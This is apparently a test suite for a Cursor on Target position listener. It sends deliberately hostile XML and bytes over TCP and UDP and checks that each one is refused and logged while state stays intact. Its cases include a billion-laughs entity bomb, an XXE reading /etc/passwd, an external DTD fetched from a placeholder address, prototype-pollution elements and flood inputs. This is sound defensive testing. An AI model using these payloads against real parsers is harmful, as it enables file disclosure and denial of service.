/**
 * Hostile input on the Cursor on Target listener, TCP and UDP. CoT has no reply channel, so a
 * refusal is a line in the server's log naming the reason: the test reads the log the listener
 * writes. The server stays up, nothing stored changes, and valid events that arrive cut into
 * pieces or interleaved with another connection's are still taken whole.
 */
import fc from 'fast-check';
import { createSocket } from 'node:dgram';
import { connect as tcpConnect, type Socket } from 'node:net';
import { pino } from 'pino';
import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest';
import { z } from 'zod';
import { CotListener, networkList } from '../../server/ingest/cot-listener.js';
import { startServer, testUnit, type TestServer } from '../support/server.js';
import { expectAlive, expectPrototypeIntact, fingerprint, MALAKAL, SEED, settledFingerprint, Tally, until, type Fingerprint } from './support.js';

let server: TestServer;
let listener: CotListener;
let tcpPort = 0;
let udpPort = 0;
let baseline: Fingerprint;
/** Every line the listener logged: pino's level and message. */
const logLines: { level: number; msg: string }[] = [];
// The properties run hundreds of inputs: generous on a loaded machine, a few seconds on an idle one.
vi.setConfig({ testTimeout: 120_000 });

const tally = new Tally('Cursor on Target (TCP and UDP)');
let framings = 0;

const LogLine = z.object({ level: z.number(), msg: z.string() });

const iso = (ms: number) => new Date(ms).toISOString();

/** A well-formed position event; `attrs` and `point` replace the defaults verbatim. */
function event(o: { uid?: string; time?: number; point?: string; attrs?: string; detail?: string; type?: string } = {}): string {
  const t = o.time ?? Date.now() - 5000;
  const attrs = o.attrs ?? `version="2.0" uid="${o.uid ?? 'ANDROID-rel-1'}" type="${o.type ?? 'a-f-G-U-C'}" how="m-g" time="${iso(t)}" start="${iso(t)}" stale="${iso(t + 120_000)}"`;
  const point = o.point ?? `lat="${MALAKAL.lat}" lon="${MALAKAL.lon}" hae="390" ce="8" le="9999999"`;
  return `<event ${attrs}><point ${point}/><detail>${o.detail ?? '<contact callsign="REL-1"/>'}</detail></event>`;
}

function sendUdp(payload: Buffer | string): Promise<void> {
  const udp = createSocket('udp4');
  return new Promise((resolve, reject) => udp.send(payload, udpPort, '127.0.0.1', (err) => (udp.close(), err ? reject(err) : resolve())));
}

function openStream(): Promise<Socket> {
  return new Promise((resolve, reject) => {
    const s = tcpConnect(tcpPort, '127.0.0.1', () => resolve(s));
    s.once('error', reject);
  });
}

const pause = (ms: number) => new Promise((r) => setTimeout(r, ms));

/** Writes the pieces one by one, then closes the stream (or finds it closed by the server). */
async function overTcp(pieces: (string | Buffer)[], gapMs = 2): Promise<{ closedByServer: boolean }> {
  const s = await openStream();
  let closedByServer = false;
  s.on('error', () => undefined);
  s.on('close', () => {
    closedByServer = true;
  });
  for (const piece of pieces) {
    if (s.destroyed) break;
    s.write(piece);
    await pause(gapMs);
  }
  await pause(100);
  const byServer = closedByServer;
  s.end();
  await new Promise<void>((r) => (s.closed ? r() : s.once('close', () => r())));
  return { closedByServer: byServer };
}

/** Waits for a warning logged after line `from` whose message matches `reason`. */
async function expectLoggedRefusal(from: number, reason: RegExp): Promise<void> {
  const found = () => logLines.slice(from).find((l) => reason.test(l.msg));
  await expect
    .poll(found, { timeout: 5000, interval: 10, message: `a logged refusal matching ${reason}; logged: ${logLines.slice(from).map((l) => l.msg).join(' | ').slice(0, 600)}` })
    .toBeDefined();
  expect(found()?.level, 'logged as a warning').toBe(40);
  expect(found()?.msg).toMatch(/^CoT refused from (TCP|UDP) |not on the roster/);
}

async function expectNothingChanged(): Promise<void> {
  await expectAlive(server.url);
  expect(await fingerprint(server)).toEqual(baseline);
  expectPrototypeIntact();
}

beforeAll(async () => {
  server = await startServer();
  await server.register([testUnit('ANDROID-rel-1', { callsign: 'REL-1' }), testUnit('ANDROID-rel-2'), testUnit('ANDROID-rel-3'), testUnit('ANDROID-rel-4')]);
  const logger = pino({ level: 'warn' }, { write: (line: string) => void logLines.push(LogLine.parse(JSON.parse(line))) });
  listener = new CotListener({ tracker: server.app.tracker, logger, allow: networkList('127.0.0.0/8') });
  tcpPort = await listener.listenTcp(0, '127.0.0.1');
  udpPort = await listener.listenUdp(0, '127.0.0.1');
  await sendUdp(event());
  await until('the first event', () => listener.stats.accepted === 1);
  baseline = await settledFingerprint(server);
});

afterAll(async () => {
  tally.print();
  console.log(`[reliability] Cursor on Target: ${framings} valid streams cut into random packets or interleaved across two connections, every event taken whole`);
  await listener?.close();
  await server?.close();
});

const laughs = `<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">${Array.from({ length: 9 }, (_, i) => `<!ENTITY lol${i + 1} "${`&lol${i === 0 ? '' : i};`.repeat(10)}">`).join('')}]>`;

interface Case {
  name: string;
  send: () => Promise<unknown>;
  reason: RegExp;
}

const udpCases: Case[] = [
  { name: 'billion laughs', send: () => sendUdp(laughs + event({ detail: '<remarks>&lol9;</remarks>' })), reason: /document type declarations are not accepted/ },
  { name: 'an external entity (file:///etc/passwd)', send: () => sendUdp(`<?xml version="1.0"?><!DOCTYPE e [<!ENTITY x SYSTEM "file:///etc/passwd">]>${event({ detail: '<remarks>&x;</remarks>' })}`), reason: /document type declarations/ },
  { name: 'an external parameter entity', send: () => sendUdp(`<!doctype e [<!ENTITY % p SYSTEM "http://203.0.113.9/x.dtd"> %p;]>${event()}`), reason: /document type declarations/ },
  { name: 'an entity used without being declared', send: () => sendUdp(event({ detail: '<contact callsign="&xxe;"/>' })), reason: /"&xxe;" is an undeclared entity/ },
  { name: 'a bare ampersand', send: () => sendUdp(event({ detail: '<contact callsign="Tom & Jerry"/>' })), reason: /unescaped &/ },
  { name: 'TAK protobuf (0xBF)', send: () => sendUdp(Buffer.from([0xbf, 0x01, 0xbf, 0x0a, 0x02, 0x08, 0x01])), reason: /TAK protobuf \(0xBF\) is not supported/ },
  { name: 'bytes that are not UTF-8', send: () => sendUdp(Buffer.concat([Buffer.from(event().slice(0, 60)), Buffer.from([0xc3, 0x28, 0xff]), Buffer.from(event().slice(60))])), reason: /datagram is not valid UTF-8/ },
  { name: 'an empty datagram', send: () => sendUdp(Buffer.alloc(0)), reason: /not well-formed XML/ },
  { name: 'lat="NaN"', send: () => sendUdp(event({ point: 'lat="NaN" lon="31.6"' })), reason: /event\.point\.lat: not a decimal number/ },
  { name: 'lon="Infinity"', send: () => sendUdp(event({ point: 'lat="9.5" lon="Infinity"' })), reason: /event\.point\.lon: not a decimal number/ },
  { name: 'lat="1e400"', send: () => sendUdp(event({ point: 'lat="1e400" lon="31.6"' })), reason: /event\.point\.lat: not a finite number/ },
  { name: 'empty coordinates (were read as 0, 0)', send: () => sendUdp(event({ point: 'lat="" lon=" "' })), reason: /event\.point\.lat: not a decimal number/ },
  { name: 'hex coordinates (were read as 16, 3)', send: () => sendUdp(event({ point: 'lat="0x10" lon="0b11"' })), reason: /event\.point\.lat: not a decimal number/ },
  { name: 'lat and lon swapped', send: () => sendUdp(event({ point: `lat="${MALAKAL.lon}" lon="${MALAKAL.lat}"` })), reason: /look swapped/ },
  { name: 'latitude 91', send: () => sendUdp(event({ point: 'lat="91" lon="31.6"' })), reason: /event\.point\.lat/ },
  { name: 'a time that is not ISO 8601 (time="1" was read as 2001)', send: () => sendUdp(event({ attrs: `version="2.0" uid="ANDROID-rel-1" type="a-f-G-U-C" time="1" stale="2"` })), reason: /event\.time: not an ISO 8601 time/ },
  { name: 'a time a day ahead', send: () => sendUdp(event({ time: Date.now() + 86_400_000 })), reason: /ahead of the server's clock/ },
  { name: 'tags nested 10,000 deep', send: () => sendUdp(event({ detail: '<a>'.repeat(5000) + '</a>'.repeat(5000) })), reason: /Maximum nested tags exceeded/ },
  { name: 'a __proto__ element', send: () => sendUdp(event({ detail: '<__proto__><polluted>1</polluted></__proto__>' })), reason: /"__proto__" is a reserved JavaScript keyword/ },
  { name: 'a constructor element', send: () => sendUdp(event({ detail: '<constructor><prototype polluted="1"/></constructor>' })), reason: /"constructor" is a reserved JavaScript keyword/ },
  { name: 'a __proto__ attribute', send: () => sendUdp(event({ detail: '<contact __proto__="x" callsign="REL"/>' })), reason: /"__proto__" is a reserved JavaScript keyword/ },
  { name: 'a uid of 201 characters', send: () => sendUdp(event({ uid: 'u'.repeat(201) })), reason: /event\.uid/ },
  { name: 'a callsign of 101 characters', send: () => sendUdp(event({ detail: `<contact callsign="${'C'.repeat(101)}"/>` })), reason: /event\.detail\.contact\.callsign/ },
  { name: 'two contacts', send: () => sendUdp(event({ detail: '<contact callsign="A"/><contact callsign="B"/>' })), reason: /event\.detail\.contact: / },
  { name: 'two events in one datagram', send: () => sendUdp(event() + event()), reason: /Multiple possible root nodes/ },
  { name: 'no point', send: () => sendUdp(event().replace(/<point [^>]*\/>/, '')), reason: /event\.point/ },
  { name: 'a uid not on the roster', send: () => sendUdp(event({ uid: 'ANDROID-stranger-udp' })), reason: /uid not on the roster: ANDROID-stranger-udp/ },
  { name: 'an SOS for a unit not on the roster', send: () => sendUdp(event({ uid: 'ANDROID-stranger-9-1-1', type: 'b-a-o-tbl' })), reason: /uid not on the roster: ANDROID-stranger/ },
];

const tcpCases: (Case & { closes?: boolean })[] = [
  { name: 'TAK protobuf on a stream', send: () => overTcp([Buffer.from([0xbf, 0x01, 0xbf, 0x12, 0x34])]), reason: /TAK protobuf/, closes: true },
  { name: 'a frame past 1 MiB without </event>', send: () => overTcp([`<event version="2.0" uid="x">`, ...Array.from({ length: 20 }, () => `<remarks>${'x'.repeat(60_000)}</remarks>`)], 1), reason: /grew past 1048576 bytes without <\/event>/, closes: true },
  { name: 'an event of 300 KB', send: () => overTcp([event({ detail: `<remarks>${'x'.repeat(300_000)}</remarks>` })]), reason: /event larger than 256 KiB/ },
  { name: 'bytes that are not UTF-8 mid-stream', send: () => overTcp([event().slice(0, 40), Buffer.from([0xe2, 0x28, 0xa1]), event().slice(40)]), reason: /the stream is not valid UTF-8/, closes: true },
  // The stream drops what comes before <event, declarations included: the entity is then undeclared.
  { name: 'billion laughs on a stream', send: () => overTcp([laughs, event({ detail: '<remarks>&lol9;</remarks>' })]), reason: /"&lol9;" is an undeclared entity|document type declarations/ },
  { name: 'the tail of an event without its start', send: () => overTcp([event().slice(120)]), reason: /not well-formed XML/ },
  { name: 'a connection closed in the middle of an event', send: () => overTcp([event().slice(0, 150)]), reason: /closed in the middle of an event \(150 bytes\)/ },
  {
    name: 'a flood of 300 events in one second',
    send: () => overTcp([Array.from({ length: 300 }, (_, i) => event({ uid: `ANDROID-flood-${i}` })).join('')]),
    reason: /more than 200 events a second; the rest of this second are dropped/,
  },
];

describe('hand-written hostile CoT is refused, the reason logged, and nothing changes', () => {
  for (const c of udpCases) {
    it(`UDP: ${c.name}`, async () => {
      const from = logLines.length;
      await c.send();
      await expectLoggedRefusal(from, c.reason);
      await expectNothingChanged();
      tally.hand();
    });
  }
  for (const c of tcpCases) {
    it(`TCP: ${c.name}`, async () => {
      const from = logLines.length;
      const outcome = await c.send();
      await expectLoggedRefusal(from, c.reason);
      if (c.closes) expect(outcome).toEqual({ closedByServer: true });
      await expectNothingChanged();
      tally.hand();
    });
  }

  it('TCP: the halves of one event sent over two connections are refused on both', async () => {
    const from = logLines.length;
    const whole = event({ uid: 'ANDROID-rel-2', detail: '<contact callsign="SPLIT"/>' });
    const [a, b] = [await openStream(), await openStream()];
    a.write(whole.slice(0, 100));
    await pause(20);
    b.write(whole.slice(100));
    await pause(50);
    a.end();
    b.end();
    await expectLoggedRefusal(from, /not well-formed XML/);
    await expectLoggedRefusal(from, /closed in the middle of an event \(100 bytes\)/);
    await expectNothingChanged();
    tally.hand();
  });
});

/** Escapes text for an XML attribute, so a generated value reaches the schema as it was. */
const attr = (s: string) => s.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/"/g, '&quot;');
const printable = (s: string) => [...s].filter((ch) => ch >= ' ' && ch <= '~').join('');
const notDecimal = fc.oneof(
  fc.constantFrom('', ' ', 'NaN', 'Infinity', '-Infinity', '0x1F', '1,5', '1..2', '--3', 'nine', '9.5°', '١٢'),
  fc.string({ maxLength: 12 }).map(printable).filter((s) => !/^\s*[+-]?(\d+\.?\d*|\.\d+)([eE][+-]?\d+)?\s*$/.test(s)),
);
const outOf = (min: number, max: number) =>
  fc.oneof(fc.double({ max: min, maxExcluded: true, noNaN: true, noDefaultInfinity: true }), fc.double({ min: max, minExcluded: true, noNaN: true, noDefaultInfinity: true })).map(String);
const notIso = fc.oneof(
  fc.constantFrom('', 'now', '1', '2024-05-28', '2024-05-28T10:00:00', '28/05/2024 10:00', '2024-13-01T00:00:00Z'),
  fc.string({ maxLength: 25 }).map(printable).filter((s) => !/^\d{4}-\d\d-\d\dT/.test(s)),
);

/** Each attribute with values it can never take, and the name the refusal must give. */
const badAttribute: Record<string, { values: fc.Arbitrary<string>; names: RegExp }> = {
  lat: { values: fc.oneof(notDecimal, outOf(3.209, 12.548)), names: /point\.lat|reports\[0\]\.lat/ },
  lon: { values: fc.oneof(notDecimal, outOf(23.587, 35.598)), names: /point\.lon|reports\[0\]\.(lat|lon)/ },
  // hae and ce may be left blank (unknown); anything else that is not a number is refused.
  hae: { values: notDecimal.filter((s) => s.trim() !== ''), names: /point\.hae/ },
  ce: { values: notDecimal.filter((s) => s.trim() !== ''), names: /point\.ce/ },
  time: { values: notIso, names: /event\.time/ },
  stale: { values: notIso, names: /event\.stale/ },
  uid: { values: fc.oneof(fc.constant(''), fc.string({ minLength: 201, maxLength: 260 }).map(printable).filter((s) => s.length > 200)), names: /event\.uid/ },
  type: { values: fc.oneof(fc.constant(''), fc.string({ minLength: 101, maxLength: 140 }).map(printable).filter((s) => s.length > 100)), names: /event\.type/ },
};

function eventWith(name: string, value: string): string {
  const t = Date.now() - 5000;
  const a: Record<string, string> = { uid: 'ANDROID-rel-1', type: 'a-f-G-U-C', time: iso(t), stale: iso(t + 120_000), lat: String(MALAKAL.lat), lon: String(MALAKAL.lon), hae: '390', ce: '8' };
  a[name] = value;
  return event({
    attrs: `version="2.0" uid="${attr(a.uid ?? '')}" type="${attr(a.type ?? '')}" how="m-g" time="${attr(a.time ?? '')}" stale="${attr(a.stale ?? '')}"`,
    point: `lat="${attr(a.lat ?? '')}" lon="${attr(a.lon ?? '')}" hae="${attr(a.hae ?? '')}" ce="${attr(a.ce ?? '')}" le="9999999"`,
  });
}

describe('generated hostile CoT (fast-check, fixed seed)', () => {
  it('a valid event with any one attribute made wrong is refused over UDP, the log naming it', async () => {
    await fc.assert(
      fc.asyncProperty(fc.constantFrom(...Object.keys(badAttribute)).chain((name) => fc.tuple(fc.constant(name), badAttribute[name]?.values ?? fc.constant(''))), async ([name, value]) => {
        const from = logLines.length;
        const refusedBefore = listener.stats.refused;
        await sendUdp(eventWith(name, value));
        await expect.poll(() => listener.stats.refused, { timeout: 5000, interval: 10 }).toBe(refusedBefore + 1);
        await expectLoggedRefusal(from, badAttribute[name]?.names ?? /./);
        await expectNothingChanged();
        tally.property();
      }),
      { seed: SEED, numRuns: 120 },
    );
  });

  it('any text or bytes over UDP is refused, each with a logged reason', async () => {
    const payload = fc.oneof(
      fc.string({ maxLength: 400, unit: 'binary' }).map((s) => Buffer.from(s)),
      fc.uint8Array({ maxLength: 400 }).map((b) => Buffer.from(b)),
      // XML-looking noise: fragments of a real event shuffled together.
      fc.array(fc.constantFrom('<event', ' uid="x"', '>', '</event>', '<point lat="9" lon="31"/>', '<detail>', '</detail>', '&amp;', '<!--', '-->', '<![CDATA[', ']]>', '"'), { maxLength: 12 }).map((parts) => Buffer.from(parts.join(''))),
    );
    await fc.assert(
      fc.asyncProperty(payload, async (bytes) => {
        const from = logLines.length;
        const refusedBefore = listener.stats.refused;
        await sendUdp(bytes);
        await expect.poll(() => listener.stats.refused, { timeout: 5000, interval: 10 }).toBe(refusedBefore + 1);
        await expectLoggedRefusal(from, /CoT refused from UDP/);
        await expectNothingChanged();
        tally.property();
      }),
      { seed: SEED, numRuns: 120 },
    );
  });
});

describe('valid events in pieces are taken whole (the state changes from here on)', () => {
  it('an event cut byte by byte, a callsign’s multi-byte characters split across packets, is taken intact', async () => {
    const t = Date.now() - 4000;
    const xml = event({ uid: 'ANDROID-rel-2', time: t, detail: '<contact callsign="Équipe Ωmega 🚓"/><__group name="Ñ&amp;Ü" role="Team Lead"/>' });
    const bytes = Buffer.from(xml);
    await overTcp(Array.from(bytes, (_, i) => bytes.subarray(i, i + 1)), 0);
    await expect.poll(() => server.app.tracker.unit('ANDROID-rel-2')?.last?.time, { timeout: 5000 }).toBe(t);
    expect(server.app.tracker.unit('ANDROID-rel-2')).toMatchObject({ callsign: 'Équipe Ωmega 🚓', group: 'Ñ&Ü' });
    framings += 1;
  });

  it('however two streams are cut into packets and interleaved, every event on each is taken, in order', async () => {
    let round = 0;
    await fc.assert(
      fc.asyncProperty(
        fc.array(fc.integer({ min: 1, max: 400 }), { minLength: 1, maxLength: 12 }),
        fc.array(fc.integer({ min: 1, max: 400 }), { minLength: 1, maxLength: 12 }),
        fc.array(fc.boolean(), { minLength: 24, maxLength: 24 }),
        async (cutsA, cutsB, order) => {
          round += 1;
          const base = Date.now() - 60_000 + round * 100;
          const stream = (uid: string, callsign: string) =>
            Buffer.from([0, 1, 2].map((i) => event({ uid, time: base + i * 10, detail: `<contact callsign="${callsign} ${round}·${i}"/>` })).join('\n'));
          const split = (bytes: Buffer, cuts: number[]) => {
            const pieces: Buffer[] = [];
            let at = 0;
            for (const c of cuts) {
              if (at >= bytes.length) break;
              pieces.push(bytes.subarray(at, at + c));
              at += c;
            }
            if (at < bytes.length) pieces.push(bytes.subarray(at));
            return pieces;
          };
          const piecesA = split(stream('ANDROID-rel-3', 'Ärø'), cutsA);
          const piecesB = split(stream('ANDROID-rel-4', 'Ωmega'), cutsB);
          const [a, b] = [await openStream(), await openStream()];
          let i = 0;
          while (piecesA.length > 0 || piecesB.length > 0) {
            const fromA = piecesB.length === 0 || (piecesA.length > 0 && (order[i++ % order.length] ?? true));
            const piece = fromA ? piecesA.shift() : piecesB.shift();
            if (piece) (fromA ? a : b).write(piece);
            await pause(1);
          }
          a.end();
          b.end();
          const last = base + 20;
          await expect.poll(() => [server.app.tracker.unit('ANDROID-rel-3')?.last?.time, server.app.tracker.unit('ANDROID-rel-4')?.last?.time], { timeout: 5000 }).toEqual([last, last]);
          expect(server.app.tracker.unit('ANDROID-rel-3')?.callsign).toBe(`Ärø ${round}·2`);
          expect(server.app.tracker.unit('ANDROID-rel-4')?.callsign).toBe(`Ωmega ${round}·2`);
          for (const unitId of ['ANDROID-rel-3', 'ANDROID-rel-4']) {
            expect((await server.app.tracker.track(unitId, base, last, 10)).map((f) => f.time)).toEqual([base, base + 10, last]);
          }
          framings += 1;
        },
      ),
      { seed: SEED, numRuns: 25 },
    );
  });

  it('after all of it, TCP and UDP still take a good event', async () => {
    const t = Date.now() - 1000;
    await sendUdp(event({ time: t - 500 }));
    await expect.poll(() => server.app.tracker.unit('ANDROID-rel-1')?.last?.time, { timeout: 5000 }).toBe(t - 500);
    await overTcp([event({ time: t })]);
    await expect.poll(() => server.app.tracker.unit('ANDROID-rel-1')?.last?.time, { timeout: 5000 }).toBe(t);
    await expectAlive(server.url);
  });
});
